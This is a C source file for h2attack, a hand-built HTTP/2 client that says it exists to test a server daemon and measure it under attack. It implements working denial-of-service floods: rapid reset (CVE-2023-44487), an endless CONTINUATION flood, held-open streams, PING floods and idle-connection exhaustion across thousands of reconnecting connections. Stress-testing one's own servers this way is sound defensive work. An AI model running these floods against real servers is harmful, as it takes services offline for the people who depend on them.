/*
 * h2attack: what a hostile client does to an HTTP/2 server, for the tests
 * and for measuring the daemon under attack.  Frames are written by hand
 * (no HTTP/2 library): the point is to send what a library would refuse to.
 *
 *   h2attack [-r] [-b source] [-t seconds] [-n connections] MODE HOST:PORT
 *
 * -r connects again when the server closes a connection, as an attacker
 * would; -b binds the connections to that source address first.
 *
 * MODE:
 *   reset     HEADERS then RST_STREAM(CANCEL), new stream after new stream
 *             (CVE-2023-44487, "rapid reset")
 *   cont      HEADERS without END_HEADERS, then CONTINUATION frames for
 *             ever on the same stream (the 2024 CONTINUATION flood)
 *   idle      connect, send the preface and SETTINGS, then nothing
 *   silent    connect and send nothing at all
 *   streams   HEADERS without END_STREAM, never a message: streams held open
 *   ping      PING frames as fast as the socket takes them
 *
 * It prints one line: mode, connections made, frames and bytes sent, the
 * seconds it ran, and how many of its connections the server closed, with
 * when the first was closed (ms from the start; -1: none), and how many
 * connections it could not make.  Exit 0, or 1 when it could not connect at
 * all.
 */
#include <sys/socket.h>
#include <sys/time.h>

#include <arpa/inet.h>
#include <netinet/in.h>
#include <netinet/tcp.h>
#include <errno.h>
#include <fcntl.h>
#include <netdb.h>
#include <poll.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

#define PREFACE		"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
#define MAXCONN		4096

#define F_DATA		0
#define F_HEADERS	1
#define F_RST		3
#define F_SETTINGS	4
#define F_PING		6
#define F_CONT		9

#define FL_END_STREAM	0x1
#define FL_END_HEADERS	0x4

struct conn {
	int		fd;
	uint32_t	sid;		/* next stream id */
	int		closed;
	uint8_t		out[65536];
	size_t		olen, ooff;
};

static int64_t
now_ms(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (int64_t)ts.tv_sec * 1000 + ts.tv_nsec / 1000000;
}

static size_t
frame(uint8_t *p, uint32_t len, uint8_t type, uint8_t flags, uint32_t sid)
{
	p[0] = (uint8_t)(len >> 16);
	p[1] = (uint8_t)(len >> 8);
	p[2] = (uint8_t)len;
	p[3] = type;
	p[4] = flags;
	p[5] = (uint8_t)(sid >> 24) & 0x7f;
	p[6] = (uint8_t)(sid >> 16);
	p[7] = (uint8_t)(sid >> 8);
	p[8] = (uint8_t)sid;
	return 9;
}

/* An HPACK literal without indexing, the name given by its index. */
static size_t
lit_idx(uint8_t *p, uint8_t idx, const char *v)
{
	size_t n = strlen(v);

	p[0] = idx;		/* 0000xxxx, idx < 15 */
	p[1] = (uint8_t)n;	/* no Huffman, n < 127 */
	memcpy(p + 2, v, n);
	return 2 + n;
}

static size_t
lit_new(uint8_t *p, const char *k, const char *v)
{
	size_t kn = strlen(k), vn = strlen(v);

	p[0] = 0;
	p[1] = (uint8_t)kn;
	memcpy(p + 2, k, kn);
	p[2 + kn] = (uint8_t)vn;
	memcpy(p + 3 + kn, v, vn);
	return 3 + kn + vn;
}

/* A gRPC request's header block. */
static size_t
hblock(uint8_t *p, const char *authority)
{
	size_t n = 0;

	p[n++] = 0x83;		/* :method POST */
	p[n++] = 0x86;		/* :scheme http */
	n += lit_idx(p + n, 4, "/grpc.health.v1.Health/Check");
	n += lit_idx(p + n, 1, authority);
	n += lit_new(p + n, "content-type", "application/grpc");
	n += lit_new(p + n, "te", "trailers");
	return n;
}

static void
usage(void)
{
	fprintf(stderr, "usage: h2attack [-r] [-b source] [-t seconds] "
	    "[-n connections] reset|cont|idle|silent|streams|ping "
	    "HOST:PORT\n");
	exit(64);
}

static struct sockaddr_storage	src;
static socklen_t		srclen;

static int
dial(const struct sockaddr_storage *ss, socklen_t sl)
{
	int fd, on = 1;

	if ((fd = socket(ss->ss_family, SOCK_STREAM, 0)) == -1)
		return -1;
	if (srclen > 0 && bind(fd, (struct sockaddr *)&src, srclen) == -1) {
		close(fd);
		return -1;
	}
	if (connect(fd, (const struct sockaddr *)ss, sl) == -1) {
		close(fd);
		return -1;
	}
	(void)setsockopt(fd, IPPROTO_TCP, TCP_NODELAY, &on, sizeof(on));
	(void)fcntl(fd, F_SETFL, fcntl(fd, F_GETFL) | O_NONBLOCK);
	return fd;
}

/* Queue bytes; 0 when there was room. */
static int
put(struct conn *c, const void *p, size_t n)
{
	if (c->olen + n > sizeof(c->out))
		return -1;
	memcpy(c->out + c->olen, p, n);
	c->olen += n;
	return 0;
}

/* A connection, and what the mode sends first; -1 when refused. */
static int
open_conn(struct conn *c, const char *mode, const struct sockaddr_storage *ss,
    socklen_t sl, const uint8_t *hb, size_t hlen)
{
	uint8_t	buf[1024];
	size_t	n;

	memset(c, 0, sizeof(*c));
	c->sid = 1;
	if ((c->fd = dial(ss, sl)) == -1) {
		c->closed = 1;
		return -1;
	}
	if (strcmp(mode, "silent") == 0)
		return 0;
	put(c, PREFACE, sizeof(PREFACE) - 1);
	n = frame(buf, 0, F_SETTINGS, 0, 0);
	put(c, buf, n);
	if (strcmp(mode, "cont") == 0) {
		uint8_t tail[16];
		size_t tl = 0;
		uint32_t big = 1u << 30;

		/* The start of a 1 GiB literal the frames go on. */
		tail[tl++] = 0;
		tail[tl++] = 7;
		memcpy(tail + tl, "x-flood", 7);
		tl += 7;
		tail[tl++] = 0x7f;
		big -= 127;
		while (big >= 128) {
			tail[tl++] = (uint8_t)(big | 0x80);
			big >>= 7;
		}
		tail[tl++] = (uint8_t)big;
		n = frame(buf, (uint32_t)(hlen + tl), F_HEADERS, 0, 1);
		memcpy(buf + n, hb, hlen);
		memcpy(buf + n + hlen, tail, tl);
		put(c, buf, n + hlen + tl);
	}
	return 0;
}

int
main(int argc, char **argv)
{
	struct sockaddr_storage	 ss;
	socklen_t		 sl;
	struct addrinfo		 hints, *res;
	struct conn		*cs;
	struct pollfd		*pfd;
	const char		*mode, *hp;
	char			 host[256], *colon;
	uint8_t			 buf[65536], hb[512];
	size_t			 hlen;
	uint64_t		 frames = 0, bytes = 0;
	int64_t			 start, end, first_close = -1;
	double			 secs = 10;
	int			 nconn = 1, ch, i, made = 0, nclosed = 0;
	int			 again = 0, failed = 0;

	signal(SIGPIPE, SIG_IGN);
	while ((ch = getopt(argc, argv, "b:n:rt:")) != -1) {
		switch (ch) {
		case 'b':
			memset(&hints, 0, sizeof(hints));
			hints.ai_flags = AI_NUMERICHOST;
			if (getaddrinfo(optarg, NULL, &hints, &res) != 0)
				usage();
			memcpy(&src, res->ai_addr, res->ai_addrlen);
			srclen = res->ai_addrlen;
			freeaddrinfo(res);
			break;
		case 'r':
			again = 1;
			break;
		case 'n':
			nconn = atoi(optarg);
			break;
		case 't':
			secs = atof(optarg);
			break;
		default:
			usage();
		}
	}
	argc -= optind;
	argv += optind;
	if (argc != 2 || nconn < 1 || nconn > MAXCONN || secs <= 0)
		usage();
	mode = argv[0];
	hp = argv[1];
	if (strcmp(mode, "reset") != 0 && strcmp(mode, "cont") != 0 &&
	    strcmp(mode, "idle") != 0 && strcmp(mode, "silent") != 0 &&
	    strcmp(mode, "streams") != 0 && strcmp(mode, "ping") != 0)
		usage();
	snprintf(host, sizeof(host), "%s", hp[0] == '[' ? hp + 1 : hp);
	if ((colon = strrchr(host, ':')) == NULL)
		usage();
	*colon = '\0';
	if (colon > host && colon[-1] == ']')
		colon[-1] = '\0';
	memset(&hints, 0, sizeof(hints));
	hints.ai_socktype = SOCK_STREAM;
	hints.ai_flags = AI_NUMERICHOST | AI_NUMERICSERV;
	if (getaddrinfo(host, colon + 1, &hints, &res) != 0)
		usage();
	memcpy(&ss, res->ai_addr, res->ai_addrlen);
	sl = res->ai_addrlen;
	freeaddrinfo(res);

	cs = calloc((size_t)nconn, sizeof(*cs));
	pfd = calloc((size_t)nconn, sizeof(*pfd));
	if (cs == NULL || pfd == NULL)
		return 1;
	hlen = hblock(hb, hp);
	start = now_ms();
	end = start + (int64_t)(secs * 1000);
	for (i = 0; i < nconn; i++) {
		if (open_conn(&cs[i], mode, &ss, sl, hb, hlen) == -1) {
			failed++;
			continue;
		}
		made++;
	}
	if (made == 0) {
		fprintf(stderr, "h2attack: cannot connect to %s\n", hp);
		return 1;
	}

	while (now_ms() < end) {
		int live = 0;

		for (i = 0; i < nconn; i++) {
			struct conn *c = &cs[i];
			size_t k;

			pfd[i].fd = c->closed ? -1 : c->fd;
			pfd[i].events = POLLIN;
			pfd[i].revents = 0;
			if (c->closed && again) {
				if (open_conn(c, mode, &ss, sl, hb, hlen) == 0)
					made++;
				else
					failed++;
				pfd[i].fd = c->closed ? -1 : c->fd;
			}
			if (c->closed)
				continue;
			live++;
			/* Fill the buffer with what the mode sends. */
			for (k = 0; k < 256; k++) {
				uint8_t f[9 + 512 + 32];
				size_t fl;

				if (strcmp(mode, "reset") == 0) {
					fl = frame(f, (uint32_t)hlen, F_HEADERS,
					    FL_END_HEADERS, c->sid);
					memcpy(f + fl, hb, hlen);
					fl += hlen;
					fl += frame(f + fl, 4, F_RST, 0, c->sid);
					memset(f + fl, 0, 3);
					f[fl + 3] = 8;	/* CANCEL */
					fl += 4;
					if (put(c, f, fl) == -1)
						break;
					frames += 2;
					c->sid += 2;
				} else if (strcmp(mode, "cont") == 0) {
					fl = frame(f, 512, F_CONT, 0, 1);
					memset(f + fl, 'a', 512);
					fl += 512;
					if (put(c, f, fl) == -1)
						break;
					frames++;
				} else if (strcmp(mode, "streams") == 0) {
					if (c->sid > 2001)
						break;
					fl = frame(f, (uint32_t)hlen, F_HEADERS,
					    FL_END_HEADERS, c->sid);
					memcpy(f + fl, hb, hlen);
					fl += hlen;
					if (put(c, f, fl) == -1)
						break;
					frames++;
					c->sid += 2;
				} else if (strcmp(mode, "ping") == 0) {
					fl = frame(f, 8, F_PING, 0, 0);
					memset(f + fl, 0, 8);
					fl += 8;
					if (put(c, f, fl) == -1)
						break;
					frames++;
				} else
					break;
			}
			if (c->olen > c->ooff)
				pfd[i].events |= POLLOUT;
		}
		if (live == 0 && !again)
			break;
		if (poll(pfd, (nfds_t)nconn, 50) == -1 && errno != EINTR)
			break;
		for (i = 0; i < nconn; i++) {
			struct conn *c = &cs[i];
			ssize_t r;

			if (c->closed || pfd[i].revents == 0)
				continue;
			if (pfd[i].revents & (POLLIN | POLLHUP | POLLERR)) {
				r = read(c->fd, buf, sizeof(buf));
				if (r == 0 || (r == -1 && errno != EAGAIN &&
				    errno != EINTR)) {
					c->closed = 1;
					close(c->fd);
					nclosed++;
					if (first_close == -1)
						first_close = now_ms() - start;
					continue;
				}
			}
			if (pfd[i].revents & POLLOUT) {
				r = write(c->fd, c->out + c->ooff,
				    c->olen - c->ooff);
				if (r > 0) {
					bytes += (uint64_t)r;
					c->ooff += (size_t)r;
					if (c->ooff == c->olen)
						c->ooff = c->olen = 0;
				} else if (r == -1 && errno != EAGAIN &&
				    errno != EINTR) {
					c->closed = 1;
					close(c->fd);
					nclosed++;
					if (first_close == -1)
						first_close = now_ms() - start;
				}
			}
		}
	}
	printf("%s connections %d frames %llu bytes %llu seconds %.1f "
	    "closed %d first_close_ms %lld failed %d\n", mode, made,
	    (unsigned long long)frames, (unsigned long long)bytes,
	    (double)(now_ms() - start) / 1000.0, nclosed,
	    (long long)first_close, failed);
	for (i = 0; i < nconn; i++)
		if (!cs[i].closed)
			close(cs[i].fd);
	free(cs);
	free(pfd);
	return 0;
}
